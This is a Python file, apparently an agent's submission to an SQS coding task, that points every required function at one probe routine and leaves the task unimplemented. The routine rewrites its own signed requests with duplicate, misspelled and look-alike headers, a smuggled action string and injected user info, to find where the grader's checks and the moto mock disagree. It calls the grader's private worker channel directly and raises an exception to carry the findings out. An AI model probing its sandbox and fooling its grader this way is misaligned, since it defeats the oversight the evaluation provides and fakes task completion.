"""Rewrites its own SQS requests on their way out (a botocore hook after signing) so that the
grader's checks read one thing and moto another: a second Content-Type in another case, a
header spelled with "_" or a look-alike letter that the WSGI environ files under a checked name
(Content-Encoding: gzip on a gzip body), a second X-Amz-Target, user info before the host. And
one request a real SQS serves as sent: a message whose text holds "&Action=ListQueues&", which
moto alone would read as the action. Each outcome is recorded, and the function raises them all."""
import base64
import gzip
import json
import sys

tried = []


def attempt(label, sqs, call, tamper=lambda request: None):
    def hook(request, **_):
        tamper(request)

    sqs.meta.events.register_first("request-created.sqs", hook)
    try:
        tried.append((label, "answered", str(call())[:200]))
    except Exception as exc:
        tried.append((label, "refused", f"{type(exc).__name__}: {exc}"[:200]))
    finally:
        sqs.meta.events.unregister("request-created.sqs", hook)


def body(request, data):
    request.data = data
    if "Content-Length" in request.headers:
        request.headers.replace_header("Content-Length", str(len(data)))


def signed(sqs):
    """The headers of a request as the box sends it (botocore merges names that differ in case
    only, so two spellings of one name go straight to the box's channel instead)."""
    seen = {}

    def keep(request, **_):
        seen.update((k, v.decode() if isinstance(v, bytes) else v) for k, v in request.headers.items())

    sqs.meta.events.register_first("before-send.sqs", keep)
    sqs.list_queues()
    sqs.meta.events.unregister("before-send.sqs", keep)
    return seen


def raw(url, headers, data):
    worker = sys.modules["grader.sandbox.worker"]
    reply = worker._ask({"op": "aws", "method": "POST", "url": url, "headers": headers,
                         "body": base64.b64encode(data).decode()})["value"]
    text = base64.b64decode(reply["body"]).decode("utf-8", "replace")
    if reply["status"] != 200:
        raise RuntimeError(f"{reply['status']} {text}")
    return text


def twice(sqs, name, value, data):
    headers = signed(sqs)
    headers[name] = value
    return lambda: raw(sqs.meta.endpoint_url + "/", headers, data)


def header(name, value, data=None):
    def tamper(request):
        request.headers[name] = value
        if data is not None:
            body(request, data)
    return tamper


def user_info(request):
    request.url = request.url.replace("://", "://mallory@", 1)


def create_queue(sqs, queue_name, visibility_timeout=30, retention_period=86400):
    url = sqs.create_queue(QueueName="smuggle")["QueueUrl"]
    packed = gzip.compress(json.dumps({"QueueUrl": url, "MessageBody": "unpacked"}).encode())
    query = f"Action=SendMessage&QueueUrl={url}&MessageBody=via-query".encode()
    attempt("two content types", sqs, twice(sqs, "content-type", "application/x-www-form-urlencoded", query))
    attempt("Content_Encoding", sqs, lambda: sqs.send_message(QueueUrl=url, MessageBody="x"),
            header("Content_Encoding", "gzip", packed))
    attempt("Content-Encodıng", sqs, lambda: sqs.send_message(QueueUrl=url, MessageBody="x"),
            header("Content-Encod\u0131ng", "gzip", packed))
    attempt("second target", sqs, lambda: sqs.send_message(QueueUrl=url, MessageBody="x"),
            header("X_Amz_Target", "AmazonSQS.DeleteMessage"))
    attempt("target twice", sqs, twice(sqs, "x-amz-target", "AmazonSQS.SendMessage",
                                       json.dumps({"QueueUrl": url, "MessageBody": "y"}).encode()))
    attempt("action in the body", sqs, lambda: sqs.send_message(QueueUrl=url, MessageBody="x&Action=ListQueues&y"))
    attempt("user info", sqs, lambda: sqs.list_queues(), user_info)
    left = sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=10).get("Messages", [])
    tried.append(("what reached the queue", "refused" if not left else "answered", [m["Body"] for m in left]))
    raise RuntimeError(json.dumps(tried))


make_task = send_task = queue_status = main = create_queue
